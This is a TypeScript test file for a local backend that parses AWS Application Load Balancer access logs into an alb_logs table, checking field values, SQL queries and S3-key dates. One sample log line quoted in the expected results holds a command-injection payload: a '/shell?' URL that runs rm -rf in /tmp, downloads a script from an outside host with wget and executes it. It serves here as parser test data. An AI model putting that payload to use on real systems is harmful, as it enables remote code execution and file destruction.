import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { tempFolder } from '../evidenceFolders';
import { sourceSuite } from './sourceSuite';
import { samples } from './samples';

const sampleLines = (): string[] => readFileSync(join(samples.accessLogs, 'test-alb.log'), 'utf8').trim().split('\n');

describe('backends/local/sources ALB access logs', function () {
  this.timeout(120_000);
  const { backend, reader, rows } = sourceSuite();

  it('answers as alb_logs: the three ALB lines split, the other load balancer lines rows of NULLs (checked with awk)', async () => {
    assert.deepEqual(await rows(samples.accessLogs, 'SELECT count(*), count(type) FROM alb_logs'), [[10, 3]]);
    assert.deepEqual(await rows(samples.accessLogs, 'SELECT client_ip, client_port, target_ip, target_port, elb_status_code, target_status_code, received_bytes, sent_bytes, request_processing_time FROM alb_logs WHERE type IS NOT NULL ORDER BY time'), [
      ['192.168.131.39', 2817, '10.0.0.1', 80, 200, '200', 34, 366, 0],
      ['67.43.156.20', 41542, null, null, 301, '-', 233, 390, -1],
      ['127.0.0.1', 57273, null, null, 200, '-', 0, 272, -1],
    ]);
  });

  it('keeps a URL with spaces whole, and reads the classification and connection trace fields', async () => {
    assert.deepEqual(
      await rows(samples.accessLogs, `SELECT elb, request_verb, request_url, request_proto, user_agent, actions_executed, redirect_url, classification, classification_reason, day FROM alb_logs WHERE elb_status_code = 301`),
      [['app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e', 'GET', 'http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws', 'HTTP/1.1', 'Hello, world', 'redirect',
        'https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws', 'Acceptable', 'SpaceInUri', '2022/05/12']],
    );
    assert.deepEqual(await rows(samples.accessLogs, `SELECT conn_trace_id, trace_id, request_url FROM alb_logs WHERE conn_trace_id IS NOT NULL`), [['TID_00000000000000000000000000000000', '-', 'http://internal-service-alb.example.com:80-/']]);
    // The documentation's example queries run (the last with its date pattern's closing quote, which the documentation lacks).
    assert.deepEqual(await rows(samples.accessLogs, 'SELECT COUNT(request_verb) AS count, request_verb, client_ip FROM alb_logs GROUP BY request_verb, client_ip ORDER BY client_ip LIMIT 100'), [
      [1, '-', '127.0.0.1'], [1, 'GET', '192.168.131.39'], [1, 'GET', '67.43.156.20'], [0, null, null],
    ]);
    assert.deepEqual(await rows(samples.accessLogs, `SELECT client_ip, sum(received_bytes) FROM alb_logs WHERE parse_datetime(time,'yyyy-MM-dd''T''HH:mm:ss.SSSSSS''Z''') BETWEEN parse_datetime('2018-07-02-00:00:00','yyyy-MM-dd-HH:mm:ss') AND parse_datetime('2018-07-03-00:00:00','yyyy-MM-dd-HH:mm:ss') GROUP BY client_ip`), [['192.168.131.39', 34]]);
  });

  it('takes day from the S3 key', async () => {
    const { dir, remove } = tempFolder('alb-key');
    try {
      const key = 'AWSLogs/123456789012/elasticloadbalancing/us-east-2/2018/07/03';
      mkdirSync(join(dir, key), { recursive: true });
      writeFileSync(join(dir, key, '123456789012_elasticloadbalancing_us-east-2_app.my-loadbalancer.50dc6c495c0c9188_20180703T0000Z_10.0.0.1_2k3j4h5g.log.gz'), gzipSync(`${sampleLines()[0]}\n`));
      assert.deepEqual(await rows(dir, 'SELECT day, time FROM alb_logs'), [['2018/07/03', '2018-07-02T22:23:00.186641Z']]);
    } finally {
      remove();
    }
  });

  it('is the alb-access-logs log group: every line an event, the load balancer its stream', async () => {
    const relation = (await backend.listInsightsRelations(samples.accessLogs)).find((r) => r.evidenceType === 'alb')!;
    assert.equal(relation.logGroup, 'alb-access-logs');
    const events = await reader.rows(relation, ['@message', '@timestamp', '@logStream'], { orderBy: '"@message"' });
    assert.deepEqual(events.map((e) => e['@message']), [...sampleLines()].sort());
    assert.deepEqual(events.filter((e) => String(e['@message']).startsWith('http ')).map((e) => [e['@timestamp'], e['@logStream']]).sort(), [
      ['2018-07-02T22:23:00.186Z', 'app/my-loadbalancer/50dc6c495c0c9188'],
      ['2022-05-12T06:41:29.051Z', 'app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e'],
      ['2025-05-01T11:24:32.748Z', 'app/internal-service-alb/abcd1234efgh5678'],
    ]);
    // A connection log line is an event too, at its own time.
    assert.deepEqual(events.filter((e) => String(e['@message']).startsWith('2024-11-29')).map((e) => e['@timestamp']), ['2024-11-29T13:45:24.599Z']);
  });
});
